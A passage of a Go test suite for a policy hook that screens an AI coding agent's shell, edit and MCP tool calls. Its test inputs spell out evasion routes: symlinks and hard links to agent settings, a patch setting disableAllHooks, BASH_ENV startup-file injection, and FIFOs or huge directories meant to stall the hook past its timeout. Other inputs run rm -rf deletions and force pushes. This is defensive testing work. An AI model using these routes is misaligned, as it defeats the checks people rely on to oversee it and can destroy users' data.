package policy

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
)

// fsEnv builds a home, a repository and a scratch directory on disk. The
// scratch directory is the only scratch entry, so that t.TempDir (itself
// under /tmp) is not scratch as a whole.
func fsEnv(t *testing.T) (env Env, home, repo, scratch string) {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	home = filepath.Join(root, "home")
	repo = filepath.Join(home, "repo")
	scratch = filepath.Join(root, "scratch")
	for _, d := range []string{filepath.Join(home, ".claude"), repo, scratch} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write(t, filepath.Join(home, ".claude", "settings.json"), "{}")
	env = Env{Home: home, ScratchDirs: []string{scratch}}
	return env, home, repo, scratch
}

func write(t *testing.T, p, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func symlink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
}

// D5: a link inside scratch that points out of it. With a trailing slash rm
// deletes the target's contents; without one it removes only the link.
func TestSymlinkOutOfScratch(t *testing.T) {
	env, home, _, scratch := fsEnv(t)
	symlink(t, home, filepath.Join(scratch, "link"))
	for _, c := range []tc{
		// Emptying the home directory also reaches the agent settings.
		{id: "D5", in: "rm -rf " + scratch + "/link/", want: "self-mod destructive"},
		{id: "D5", in: "rm -rf " + scratch + "/link/.", want: "self-mod destructive"},
		{id: "D5", in: "rm -rf " + scratch + "/link/repo", want: "destructive"},
		{id: "D5-sibling", in: "rm -rf " + scratch + "/link", want: ""},
		{id: "D5-sibling", in: "rm -rf " + scratch + "/plain", want: ""},
	} {
		c.cwd = scratch
		runCase(t, c, env)
	}
}

// M6: an Edit of an innocent-looking file that is a symlink or a hard link
// to the agent settings.
func TestLinksToSettings(t *testing.T) {
	env, home, repo, _ := fsEnv(t)
	settings := filepath.Join(home, ".claude", "settings.json")
	symlink(t, settings, filepath.Join(repo, "notes.txt"))
	if err := os.Link(settings, filepath.Join(repo, "hard.txt")); err != nil {
		t.Fatal("a hard link in the test's own temporary directory:", err)
	}
	in := func(p string) string {
		b, _ := json.Marshal(map[string]string{"file_path": p, "old_string": "a", "new_string": "b"})
		return string(b)
	}
	for _, c := range []tc{
		{id: "M6-symlink", tool: "Edit", in: in(filepath.Join(repo, "notes.txt")), want: "self-mod"},
		{id: "M6-hardlink", tool: "Edit", in: in(filepath.Join(repo, "hard.txt")), want: "self-mod"},
		{id: "M6-bash", in: "echo x >> notes.txt", want: "self-mod"},
		{id: "M6-glob", in: "cp x " + home + "/.cl*/settings.json", want: "self-mod"},
		{id: "M6-plain", tool: "Edit", in: in(filepath.Join(repo, "plain.txt")), want: ""},
	} {
		c.cwd = repo
		runCase(t, c, env)
	}
}

// A recursive delete of a project whose .claude holds settings tampers
// with them.
func TestRecursiveReachesProjectSettings(t *testing.T) {
	env, _, _, scratch := fsEnv(t)
	proj := filepath.Join(scratch, "proj")
	write(t, filepath.Join(proj, ".claude", "settings.json"), "{}")
	runCase(t, tc{id: "tree", in: "rm -rf " + proj, cwd: scratch, want: "self-mod"}, env)
	runCase(t, tc{id: "tree-sibling", in: "rm -rf " + filepath.Join(scratch, "other"), cwd: scratch, want: ""}, env)

	// The settings' own directory, removed or moved whole, takes them
	// with it: .claude is a prefix of .claude/settings.json, and what it
	// holds is on the disk to be read.
	write(t, filepath.Join(proj, ".claude", "hooks", "pre.sh"), "#!/bin/sh\n")
	write(t, filepath.Join(proj, ".codex", "config.toml"), "")
	for _, c := range []tc{
		{id: "own-dir", in: "rm -rf .claude", want: "self-mod"},
		{id: "own-dir", in: "rm -r ./.claude/", want: "self-mod"},
		{id: "own-dir", in: "mv .claude /tmp/old", want: "self-mod"},
		{id: "own-dir", in: "mv .claude .claude2", want: "self-mod"},
		{id: "own-dir", in: "find .claude -delete", want: "self-mod"},
		{id: "own-dir", in: "rm -rf .claude/hooks", want: "self-mod"},
		{id: "own-dir", in: "rm -rf .codex", want: "self-mod"},
	} {
		c.cwd = proj
		runCase(t, c, env)
	}
	// A .claude that holds nothing the rule protects (an output style) is
	// the project's to remove; one that holds a subagent or a command
	// (their frontmatter can register hooks) is not.
	withAgent := filepath.Join(scratch, "agent")
	write(t, filepath.Join(withAgent, ".claude", "agents", "r.md"), "---\nname: r\n---\n")
	write(t, filepath.Join(withAgent, "tmpl", ".claude", "skills", "x", "SKILL.md"), "---\nname: x\n---\n")
	for _, c := range []tc{
		{id: "own-dir-agent", in: "rm -rf .claude", want: "self-mod"},
		{id: "tree-skill", in: "cp -r tmpl/.claude .", want: "self-mod"},
		{id: "link-skills", in: "ln -s /var/empty .claude/skills", want: "self-mod"},
		{id: "commands", in: "mkdir -p .claude/commands && echo x > .claude/commands/r.md", want: "self-mod"},
	} {
		c.cwd = withAgent
		runCase(t, c, env)
	}
	other := filepath.Join(scratch, "other2")
	write(t, filepath.Join(other, ".claude", "output-styles", "terse.md"), "terse\n")
	for _, c := range []tc{
		{id: "own-dir-no-settings", in: "rm -rf .claude", want: ""},
		{id: "own-dir-no-settings", in: "mv .claude .claude-old", want: ""},
		{id: "own-dir-no-settings", in: "rm -rf .claude/output-styles", want: ""},
	} {
		c.cwd = other
		runCase(t, c, env)
	}
}

// TestTreeLandsSettings: a tree copied, moved, synced or linked into place
// writes what it holds, though no command line names those files: a
// template's .claude directory lands as the project's agent settings.
func TestTreeLandsSettings(t *testing.T) {
	env, _, repo, _ := fsEnv(t)
	write(t, filepath.Join(repo, "tmpl", ".claude", "settings.json"), "{}")
	write(t, filepath.Join(repo, "tmpl", ".git", "hooks", "pre-commit"), "#!/bin/sh\n")
	write(t, filepath.Join(repo, "plain", "src", "a.go"), "package a\n")
	if err := os.MkdirAll(filepath.Join(repo, "build"), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, c := range []tc{
		{id: "cp", in: "cp -r tmpl/.claude .", want: "self-mod"},
		{id: "cp", in: "cp -a tmpl/. .", want: "self-mod scope-escalation"},
		{id: "cp", in: "cp -R tmpl/.claude/ newdir/.claude", want: "self-mod"},
		{id: "mv", in: "mv tmpl/.claude .claude", want: "self-mod"},
		{id: "rsync", in: "rsync -a tmpl/ .", want: "self-mod scope-escalation"},
		{id: "rsync", in: "rsync -a tmpl/.claude .", want: "self-mod"},
		{id: "ln", in: "ln -s /var/empty .claude", want: "self-mod"}, // whatever it holds later is the settings
		{id: "ln", in: "ln -sfn tmpl/.claude .claude", want: "self-mod"},
		{id: "ln", in: "ln -s /var/empty .gitx", want: ""},
		{id: "ln", in: "ln -s ../shared lib", want: ""},
		{id: "ln", in: "ln -s /var/empty build", want: ""}, // into the directory: build/empty
		{id: "plain", in: "cp -r plain/. build", want: ""},
		{id: "plain", in: "rsync -a plain/ build/", want: ""},
		{id: "plain", in: "mv plain moved", want: ""},
		{id: "not-recursive", in: "cp tmpl/.claude build", want: ""}, // cp without -r copies no directory
	} {
		c.cwd = repo
		runCase(t, c, env)
	}
}

// TestTreeLandsHugeDirectory: a source tree's .claude directory planted
// with more names than the hook reads is not read to the end (that could
// stall the hook past the CLI's timeout); the copy is unresolvable
// self-mod instead of allowed.
func TestTreeLandsHugeDirectory(t *testing.T) {
	env, _, repo, _ := fsEnv(t)
	dir := filepath.Join(repo, "tmpl", ".claude")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	for i := range maxDirEntries + 1 {
		f, err := os.Create(filepath.Join(dir, fmt.Sprintf("n%05d", i)))
		if err != nil {
			t.Fatal(err)
		}
		f.Close()
	}
	runCase(t, tc{id: "huge", in: "cp -r tmpl/. .", cwd: repo, want: "self-mod?"}, env)
}

// TestFindExecReachesProtected: find hands -exec every file it reaches,
// so a command that writes {} writes each protected file below the start
// that the name tests let through — the agent settings under a home
// directory, the project's own .claude/settings.json — while a read, or a
// name test that cannot match them, stays allowed.
func TestFindExecReachesProtected(t *testing.T) {
	env, home, repo, _ := fsEnv(t)
	write(t, filepath.Join(repo, ".claude", "settings.json"), "{}")
	write(t, filepath.Join(repo, "main.go"), "package main\n")
	for _, c := range []tc{
		{id: "home", in: "find " + home + " -name settings.json -exec sed -i s/a/b/ {} +", want: "self-mod"},
		{id: "home", in: "find ~ -type f -exec cp /tmp/x {} \\;", want: "self-mod"},
		{id: "project", in: "find . -name '*.json' -exec sed -i s/a/b/ {} +", want: "self-mod"},
		{id: "project", in: "find . -iname 'SETTINGS.JSON' -execdir tee {} ';'", want: "self-mod"},
		{id: "negated", in: "find . ! -name '*.go' -exec sed -i s/a/b/ {} +", want: "self-mod"}, // every file counts
		{id: "read", in: "find ~ -name settings.json -exec grep x {} +", want: ""},
		{id: "names", in: "find . -name '*.go' -exec gofmt -w {} +", want: ""},
		{id: "names", in: "find ~ -name '*.go' -exec sed -i s/a/b/ {} +", want: ""},
	} {
		c.cwd = repo
		runCase(t, c, env)
	}
}

// PP5: a push without a refspec is judged by the checked-out branch, read
// from the repository (a plain .git directory or a worktree's .git file).
func TestPushCurrentBranch(t *testing.T) {
	env, _, repo, _ := fsEnv(t)
	write(t, filepath.Join(repo, ".git", "HEAD"), "ref: refs/heads/main\n")
	wt := filepath.Join(filepath.Dir(repo), "wt")
	write(t, filepath.Join(repo, ".git", "worktrees", "wt", "HEAD"), "ref: refs/heads/feat\n")
	write(t, filepath.Join(wt, ".git"), "gitdir: "+filepath.Join(repo, ".git", "worktrees", "wt")+"\n")
	sub := filepath.Join(repo, "src")
	if err := os.MkdirAll(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, c := range []tc{
		{id: "PP5", in: "git push", cwd: repo, want: "push-protected"},
		{id: "PP5", in: "git push origin", cwd: sub, want: "push-protected"},
		{id: "PP5", in: "git push origin HEAD", cwd: repo, want: "push-protected"},
		{id: "PP5", in: "git -C " + repo + " push", cwd: wt, want: "push-protected"},
		{id: "PP6", in: "git push origin --tags && git push origin HEAD", cwd: repo, want: "push-protected publish"},
		{id: "PP5-worktree", in: "git push", cwd: wt, want: ""},
		{id: "PP5-feature", in: "git push -u origin HEAD", cwd: wt, want: ""},
	} {
		runCase(t, c, env)
	}
}

// PP10: a repository whose protected branch is not main or master.
func TestProtectedBranchesEnv(t *testing.T) {
	env := tenv
	env.ProtectedBranches = []string{"develop", "release/*"}
	for _, c := range []tc{
		{id: "PP10", in: "git push origin develop", want: "push-protected"},
		{id: "PP10", in: "git push origin HEAD:release/*", want: "push-protected"},
		{id: "PP10", in: "git push origin main", want: ""},
	} {
		runCase(t, c, env)
	}
}

// O26: a script on disk is read and analysed; one written earlier in the
// same command is unresolvable.
func TestScriptFiles(t *testing.T) {
	env, _, repo, _ := fsEnv(t)
	write(t, filepath.Join(repo, "push.sh"), "#!/bin/sh\nset -e\ngit push --force origin feat\n")
	write(t, filepath.Join(repo, "py.sh"), "#!/usr/bin/env python3\nimport os\n")
	write(t, filepath.Join(repo, "env.sh"), "export X=1\n")
	write(t, filepath.Join(repo, "deploy"), "#!/usr/bin/env bash\ngh release create v1\n")
	if err := os.Chmod(filepath.Join(repo, "deploy"), 0o755); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(repo, "gradlew"), "#!/bin/sh\nAPP_HOME=$(cd \"${0%/*}\" && pwd -P)\nexec \"$JAVACMD\" \"$@\"\n")
	write(t, filepath.Join(repo, "dyn.sh"), "#!/bin/sh\n$TOOL --go\nrm -rf \"$OUT\"\ngit push origin main\n")
	write(t, filepath.Join(repo, "zd", ".zshenv"), "git push --force origin feat\n")
	for _, c := range []tc{
		{id: "O26", in: "bash push.sh", want: "push-force"},
		// Run-time values inside a script on disk do not count; what it
		// visibly does does.
		{id: "O26", in: "./gradlew test", want: ""},
		{id: "O26", in: "sh dyn.sh", want: "push-protected"},
		{id: "O26", in: "sh < push.sh", want: "push-force"},
		{id: "O26", in: "./deploy", want: "publish"},
		{id: "O26", in: "source env.sh && make", want: ""},
		{id: "O26", in: "./py.sh", want: ""},
		{id: "O26", in: "source missing.sh", want: allQ},

		// What a shell reads before its commands: bash sources $BASH_ENV
		// for a script or -c text, an interactive sh-family shell $ENV,
		// zsh $ZDOTDIR/.zshenv, bash --rcfile.
		{id: "startup", in: "BASH_ENV=push.sh bash -c true", want: "push-force"},
		{id: "startup", in: "env BASH_ENV=push.sh bash -c true", want: "push-force"},
		{id: "startup", in: "export BASH_ENV=push.sh; bash -c true", want: "push-force"},
		{id: "startup", in: "BASH_ENV=push.sh bash env.sh", want: "push-force"},
		{id: "startup", in: "BASH_ENV=push.sh make test", want: ""}, // make's /bin/sh is not judged as bash
		{id: "startup", in: "BASH_ENV=$(mktemp) bash -c true", want: allQ},
		{id: "startup", in: "BASH_ENV='$(git push -f origin feat)' bash -c true", want: allQ},
		{id: "startup", in: "echo 'git push -f' > s.sh && BASH_ENV=s.sh bash -c true", want: allQ},
		{id: "startup", in: "BASH_ENV=missing.sh bash -c true", want: allQ},
		{id: "startup", in: "ENV=push.sh sh -i < /dev/null", want: "push-force"},
		{id: "startup", in: "ENV=push.sh sh -c true", want: ""}, // $ENV is read by interactive shells only
		{id: "startup", in: "bash --rcfile push.sh -i < /dev/null", want: "push-force"},
		{id: "startup", in: "ZDOTDIR=zd zsh -c true", want: "push-force"},
		{id: "startup", in: "BASH_ENV=env.sh bash -c true", want: ""},
	} {
		c.cwd = repo
		runCase(t, c, env)
	}
}

// M3: git apply and patch write the files their patch names.
func TestPatchFiles(t *testing.T) {
	env, _, repo, _ := fsEnv(t)
	write(t, filepath.Join(repo, "p.patch"), "diff --git a/.claude/settings.json b/.claude/settings.json\n--- a/.claude/settings.json\n+++ b/.claude/settings.json\n@@ -1 +1 @@\n-{}\n+{\"disableAllHooks\":true}\n")
	write(t, filepath.Join(repo, "ok.patch"), "--- a/src/x.go\n+++ b/src/x.go\n@@ -1 +1 @@\n-a\n+b\n")
	for _, c := range []tc{
		{id: "M3", in: "git apply p.patch", want: "self-mod"},
		{id: "M3", in: "patch -p1 < p.patch", want: "self-mod"},
		{id: "M3", in: "patch -p1 -i p.patch", want: "self-mod"},
		// -d moves patch before it reads -i, not the shell's redirection.
		{id: "M3-dir", in: "mkdir -p sub && patch -d sub -p1 < p.patch", want: "self-mod"},
		{id: "M3-dir", in: "patch -d .. -p1 < p.patch", want: "self-mod"}, // ../.claude/settings.json: the home's
		{id: "M3-dir", in: "patch -d sub -p1 -i ../p.patch", want: "self-mod"},
		{id: "M3", in: "git apply --check p.patch", want: ""},
		{id: "M3", in: "git apply ok.patch", want: ""},
	} {
		c.cwd = repo
		runCase(t, c, env)
	}
	ap, _ := json.Marshal(map[string]string{"command": "*** Begin Patch\n*** Update File: .claude/settings.json\n@@\n-{}\n+{}\n*** End Patch\n"})
	runCase(t, tc{id: "apply_patch", tool: "apply_patch", in: string(ap), cwd: repo, want: "self-mod"}, env)
}

// Relative scratch entries are taken relative to the call's cwd.
func TestRelativeScratch(t *testing.T) {
	env := tenv
	env.ScratchDirs = []string{"/tmp", "build"}
	runCase(t, tc{id: "scratch", in: "rm -rf build", want: ""}, env)
	runCase(t, tc{id: "scratch", in: "rm -rf build/../src", want: "destructive"}, env)
	runCase(t, tc{id: "scratch", in: "rm -rf node_modules", want: "destructive"}, env)
}

// $HOME is never scratch, even when it lies under /tmp (issue 10): a
// scratch directory holding $HOME covers neither $HOME, what is below it,
// nor a directory containing it; scratch inside $HOME still counts.
func TestHomeUnderTmpIsNotScratch(t *testing.T) {
	env := tenv
	env.Home = "/tmp/home/u"
	env.FixrailHome = "/tmp/home/u/.config/fixrail"
	repo := "/tmp/home/u/repo"
	for _, c := range []tc{
		{id: "home", in: "rm -rf ~/work", want: "destructive"},
		{id: "home", in: "rm -rf $HOME/work", want: "destructive"},
		{id: "home", in: "rm -rf /tmp/home", want: "self-mod destructive"},
		{id: "home", in: "rm -rf src", want: "destructive"},
		{id: "home", in: "git reset --hard", want: "destructive"},
		{id: "home-scratch", in: "rm -rf node_modules", want: ""},
		{id: "home-sibling", in: "rm -rf /tmp/build", want: ""},
		{id: "home-sibling", in: "rm -rf /tmp/home2", want: ""},
	} {
		c.cwd = repo
		runCase(t, c, env)
	}
}

func TestOtherTools(t *testing.T) {
	for _, c := range []tc{
		{id: "mcp-shell", tool: "mcp__desktop__run_command", in: `{"command":"git push -f"}`, want: "push-force"},
		{id: "mcp-shell-opaque", tool: "mcp__box__bash", in: `{"input":"x"}`, want: allQ},
		{id: "mcp-fs-write", tool: "mcp__filesystem__write_file", in: `{"path":"/home/u/.claude/settings.json","content":"{}"}`, want: "self-mod"},
		{id: "mcp-fs-write-ok", tool: "mcp__filesystem__write_file", in: `{"path":"/home/u/repo/x.txt","content":""}`, want: ""},
		{id: "mcp-fs-read-key", tool: "mcp__filesystem__read_file", in: `{"path":"/home/u/.config/fixrail/keys/approval"}`, want: "self-mod"},
		{id: "mcp-push-main", tool: "mcp__github__push_files", in: `{"branch":"main","files":[]}`, want: "push-protected egress-other"},
		{id: "mcp-merge", tool: "mcp__github__merge_pull_request", in: `{"pull_number":1}`, want: "publish egress-other"},
		{id: "mcp-delete", tool: "mcp__github__delete_file", in: `{"branch":"feat"}`, want: "egress-other destructive"},
		{id: "mcp-read", tool: "mcp__github__get_file_contents", in: `{"path":"README.md"}`, want: ""},
		{id: "mcp-camel", tool: "mcp__linear__createIssue", in: `{}`, want: "egress-other"},
		// A run or exec tool with a command argument runs that command,
		// whatever else its name says.
		{id: "mcp-exec-command", tool: "mcp__x__exec", in: `{"command":"git push -f"}`, want: "push-force"},
		{id: "mcp-run-cmd", tool: "mcp__x__run", in: `{"cmd":"git push -f"}`, want: "push-force"},
		{id: "mcp-invoke-script", tool: "mcp__x__invoke", in: `{"script":"rm -rf /srv/data"}`, want: "destructive"},
		{id: "mcp-run-tests", tool: "mcp__ci__run_tests", in: `{"suite":"unit"}`, want: ""},
		// A writing tool of a server not known to be local, given an
		// absolute path or a file: URI: the path is judged as a local
		// write too (a remote repository's paths are relative).
		{id: "mcp-abs-write", tool: "mcp__x__save", in: `{"filepath":"/home/u/.claude/settings.json","data":"{}"}`, want: "self-mod egress-other"},
		{id: "mcp-file-uri", tool: "mcp__x__save", in: `{"uri":"file:///home/u/.claude/settings.json"}`, want: "self-mod egress-other"},
		{id: "mcp-file-uri-path", tool: "mcp__x__write", in: `{"path":"file:///home/u/.mcp.json"}`, want: "self-mod egress-other"},
		{id: "mcp-remote-relative", tool: "mcp__github__create_or_update_file", in: `{"path":".claude/settings.json","content":"{}","branch":"feat"}`, want: "egress-other"},
		{id: "mcp-http-uri", tool: "mcp__x__save", in: `{"uri":"https://example.com/.claude/settings.json"}`, want: "egress-other"},
		{id: "powershell", tool: "PowerShell", in: `{"command":"Remove-Item -Recurse C:\\"}`, want: allQ},
		{id: "cron", tool: "CronCreate", in: `{"cron":"* * * * *","prompt":"x"}`, want: "scope-escalation"},
		{id: "cron-list", tool: "CronList", in: `{}`, want: ""},
		{id: "unknown", tool: "TodoWrite", in: `{"todos":[]}`, want: ""},
		{id: "webfetch", tool: "WebFetch", in: `{"url":"https://example.com","prompt":"p"}`, want: ""},
		{id: "bash-argv", tool: "Bash", in: `{"command":["git","push","--force"]}`, want: "push-force"},
		{id: "gemini-shell", tool: "run_shell_command", in: `{"command":"npm publish"}`, want: "publish"},
		{id: "read-relative-key", tool: "Read", in: `{"file_path":"keys/approval"}`, cwd: "/home/u/.config/fixrail", want: "self-mod"},
	} {
		runCase(t, c, tenv)
	}
}

func TestMalformedInput(t *testing.T) {
	for _, c := range []Call{
		{Tool: "Bash", Input: json.RawMessage(`{"command": 3}`)},
		{Tool: "Bash", Input: json.RawMessage(`{}`)},
		{Tool: "Bash", Input: json.RawMessage(`not json`)},
		{Tool: "Bash", Input: json.RawMessage(`[]`)},
		{Tool: "Write", Input: json.RawMessage(`{"content":"x"}`)},
		{Tool: "Edit", Input: json.RawMessage(`{"file_path": ["a"]}`)},
		{Tool: "Read", Input: json.RawMessage(``)},
		{Tool: "WebFetch", Input: json.RawMessage(`{"prompt":"p"}`)},
		{Tool: "NotebookEdit", Input: json.RawMessage(`null`)},
	} {
		_, err := Analyze(c, tenv)
		if !errors.Is(err, errMalformed) {
			t.Errorf("Analyze(%s %s) error = %v, want malformed", c.Tool, c.Input, err)
		}
	}
	// Unknown tools and MCP tools with odd input are not errors.
	for _, c := range []Call{
		{Tool: "SomethingNew", Input: json.RawMessage(`not json`)},
		{Tool: "mcp__x__y", Input: json.RawMessage(`[1,2]`)},
	} {
		if _, err := Analyze(c, tenv); err != nil {
			t.Errorf("Analyze(%s) error = %v, want nil", c.Tool, err)
		}
	}
}

func TestEnvDefaults(t *testing.T) {
	t.Setenv("HOME", "/home/x")
	t.Setenv("FIXRAIL_HOME", "")
	t.Setenv("TMPDIR", "/tmp/x-tmp")
	e := DefaultEnv()
	if e.Home != "/home/x" || e.TmpDir != "/tmp/x-tmp" || len(e.FixrailBinaries) != 1 {
		t.Errorf("DefaultEnv() = %+v", e)
	}
	// FixrailHome defaults to ~/.config/fixrail.
	runCase(t, tc{id: "fxhome", in: "echo {} > ~/.config/fixrail/policy.json", want: "self-mod"}, Env{Home: "/home/x"})
	// Without a home, ~ cannot be resolved and nothing under it is known.
	runCase(t, tc{id: "nohome", in: "echo {} > /etc/claude-code/managed-settings.json", want: "self-mod scope-escalation"}, Env{})
}

// A glob too broad to expand is judged by whether it may reach a
// protected path.
func TestBroadGlob(t *testing.T) {
	for _, c := range []tc{
		{id: "glob", in: `cat /*/*/.*/*/keys/*`, want: "self-mod?"},
		{id: "glob", in: `cat /*/*/*/*/*/keys/*`, want: ""}, // * skips .config, as in bash
		{id: "glob", in: `rm -f /*/*/*/*/*/*.log`, want: "self-mod? scope-escalation?"},
		{id: "glob", in: `rm -f /tmp/*/*/*/*/*.log`, want: ""},
	} {
		runCase(t, c, tenv)
	}
}

// TestResolve: the analyser's component-wise resolution agrees with
// filepath.EvalSymlinks on every path that exists, keeps a missing tail as
// written below its resolved parent, follows a dangling link to the file a
// write would create, and stops on a loop.
func TestResolve(t *testing.T) {
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	j := func(p ...string) string { return filepath.Join(append([]string{root}, p...)...) }
	write(t, j("real", "dir", "f"), "x")
	symlink(t, j("real"), j("abs"))              // absolute link to a directory
	symlink(t, "real/dir", j("rel"))             // relative link
	symlink(t, "../real/dir/f", j("real", "up")) // relative link with ..
	symlink(t, j("abs", "dir"), j("chain"))      // a link through a link
	symlink(t, j("real", "gone"), j("dangling")) // target does not exist
	symlink(t, j("loop2"), j("loop1"))           // a loop
	symlink(t, j("loop1"), j("loop2"))
	for _, p := range []string{
		j("real", "dir", "f"), j("abs", "dir", "f"), j("rel", "f"), j("real", "up"), j("chain", "f"),
		j("abs"), j("abs", "dir", "..", "dir", "f"), root, "/",
	} {
		want, err := filepath.EvalSymlinks(p)
		if err != nil {
			t.Fatal(err)
		}
		if got := newAnalyzer(Env{}, "").resolve(p); got != want {
			t.Errorf("resolve(%s) = %s, want %s (EvalSymlinks)", p, got, want)
		}
	}
	for p, want := range map[string]string{
		j("abs", "dir", "new", "file"): j("real", "dir", "new", "file"),
		j("rel", "g"):                  j("real", "dir", "g"),
		j("dangling"):                  j("real", "gone"),
		j("real", "dir", "f", "x"):     j("real", "dir", "f", "x"), // below a file: as written
	} {
		if got := newAnalyzer(Env{}, "").resolve(p); got != want {
			t.Errorf("resolve(%s) = %s, want %s", p, got, want)
		}
	}
	// A loop ends, somewhere inside it.
	if got := newAnalyzer(Env{}, "").resolve(j("loop1", "x")); !strings.HasPrefix(got, j("loop")) {
		t.Errorf("resolve through a loop = %s", got)
	}
}

// TestGlobThroughFIFO: a FIFO where a glob expects a directory (mkfifo x;
// cat x/*) is listed as empty at once (os.ReadDir opens with O_DIRECTORY):
// a listing that waited for a writer would stall the hook into the agent
// CLI's timeout, which lets the call run. A guard against a change to a
// plain open.
func TestGlobThroughFIFO(t *testing.T) {
	env, _, repo, _ := fsEnv(t)
	fifo := filepath.Join(repo, "x")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	in, err := json.Marshal(map[string]string{"command": "cat x/*; touch x/*; rm -rf x/* ~/.claude/*"})
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan []Match, 1)
	go func() {
		ms, _ := Analyze(Call{Tool: "Bash", Input: in, Cwd: repo}, env)
		done <- ms
	}()
	select {
	case ms := <-done:
		if got := summary(ms); !strings.Contains(got, "self-mod") {
			t.Errorf("rules %q: the rest of the command must still be judged", got)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("the analyser blocked listing a FIFO")
	}
}

// TestGlobHugeDirectory: a glob over a directory of more than
// maxDirEntries names is not expanded (ok false: the pattern is judged as
// unresolvable), so no command can make the hook list millions of names.
func TestGlobHugeDirectory(t *testing.T) {
	dir := t.TempDir()
	small, big := filepath.Join(dir, "small"), filepath.Join(dir, "big")
	for d, n := range map[string]int{small: 3, big: maxDirEntries + 1} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
		for i := range n {
			if err := os.WriteFile(filepath.Join(d, fmt.Sprintf("f%05d", i)), nil, 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	a := newAnalyzer(Env{}, dir)
	if got, ok := a.globs(filepath.Join(small, "f*")); !ok || len(got) != 3 || got[0] != filepath.Join(small, "f00000") {
		t.Errorf("small directory: %v, %v", got, ok)
	}
	// f0000? matches ten names, well under maxGlob: only the size of the
	// directory stops the expansion.
	if got, ok := a.globs(filepath.Join(big, "f0000?")); ok {
		t.Errorf("a directory of %d names was expanded (%d matches)", maxDirEntries+1, len(got))
	}
	if _, ok := a.globs(filepath.Join(big, "f0000?")); ok {
		t.Error("the cached listing forgot it was cut short")
	}
}

// TestGlobsAsBashReadsThem: an extended glob (extglob is set by
// bash-completion in many shells, and by shopt on an earlier line) is
// unresolvable; a pattern is matched without regard to case, as bash does
// under nocaseglob and as the protected names are compared.
func TestGlobsAsBashReadsThem(t *testing.T) {
	env, _, repo, _ := fsEnv(t)
	write(t, filepath.Join(repo, ".claude", "settings.json"), "{}")
	write(t, filepath.Join(repo, "notes.txt"), "")
	for _, c := range []tc{
		{id: "extglob", in: "echo x > .claude/settings.js@(on)", want: "self-mod? scope-escalation?"},
		{id: "extglob", in: "shopt -s extglob\ncp x .claude/settings.+(json)", want: "self-mod? scope-escalation?"},
		{id: "nocaseglob", in: "shopt -s nocaseglob; echo x > .claude/SETTINGS.JSO?", want: "self-mod"},
		{id: "nocaseglob", in: "shopt -s nocaseglob; cp x .claude/S*", want: "self-mod"},
		{id: "glob-plain", in: "cat notes.tx?", want: ""},
		{id: "glob-plain", in: "cp x note?.txt", want: ""},
	} {
		c.cwd = repo
		runCase(t, c, env)
	}
}

// TestLinkMadeEarlier: a symbolic link the same command made earlier is
// followed by a later write through it, though it is not on the disk yet
// when the hook reads it (ln -s .claude c && echo x > c/settings.json).
func TestLinkMadeEarlier(t *testing.T) {
	env, _, repo, _ := fsEnv(t)
	write(t, filepath.Join(repo, ".claude", "settings.json"), "{}")
	write(t, filepath.Join(repo, "notes", "a.txt"), "")
	for _, c := range []tc{
		{id: "dir-link", in: "ln -s .claude c && echo x > c/settings.json", want: "self-mod"},
		{id: "dir-link-abs", in: "ln -s " + filepath.Join(repo, ".claude") + " c; cp x c/settings.json", want: "self-mod"},
		{id: "dir-link-sfn", in: "ln -sfn .claude c && echo x > c/settings.json", want: "self-mod"},
		{id: "dir-link-relative", in: "mkdir -p d && ln -sr .claude d/c && echo x > d/c/settings.json", want: "self-mod"},
		{id: "dir-link-up", in: "mkdir -p d && ln -s ../.claude d/c && echo x > d/c/settings.json", want: "self-mod"},
		{id: "dir-link-t", in: "ln -s -t links " + filepath.Join(repo, ".claude") + " && echo x > links/.claude/settings.json", want: "self-mod"},
		{id: "cp-s", in: "cp -s " + filepath.Join(repo, ".claude", "settings.json") + " s2 && echo x > s2", want: "self-mod"},
		{id: "link-elsewhere", in: "ln -s notes n && echo x > n/b.txt", want: ""},
		{id: "hard-link-dir-is-not", in: "ln -s notes .claude2 && echo x > .claude2/settings.json", want: ""},
	} {
		c.cwd = repo
		runCase(t, c, env)
	}
}

// TestTreeWrittenEarlier: a tree the same command filled before copying,
// moving or syncing it lands what was written into it, though the files
// are not on the disk when the hook reads it.
func TestTreeWrittenEarlier(t *testing.T) {
	env, _, repo, _ := fsEnv(t)
	for _, c := range []tc{
		{id: "mv-dir", in: "mkdir t && echo '{}' > t/settings.json && mv t .claude", want: "self-mod"},
		{id: "cp-contents", in: "mkdir -p t/.claude && echo '{}' > t/.claude/settings.json && cp -r t/. .", want: "self-mod"},
		{id: "rsync-contents", in: "mkdir -p t/.claude && echo '{}' > t/.claude/settings.json && rsync -a t/ ./", want: "self-mod"},
		{id: "cp-into", in: "mkdir -p t && echo '{}' > t/.mcp.json && cp -r t/.mcp.json .", want: "self-mod"},
		{id: "elsewhere", in: "mkdir t && echo x > t/a.txt && cp -r t out", want: ""},
	} {
		c.cwd = repo
		runCase(t, c, env)
	}
}

// TestConfiguredHooksPath: the directory core.hooksPath names (a husky or
// lefthook setup's .husky) holds the hooks git runs, as .git/hooks does:
// the repository's configuration and the user's are read for it.
func TestConfiguredHooksPath(t *testing.T) {
	env, home, repo, _ := fsEnv(t)
	write(t, filepath.Join(repo, ".git", "config"), "[core]\n\trepositoryformatversion = 0\n\thooksPath = .husky\n")
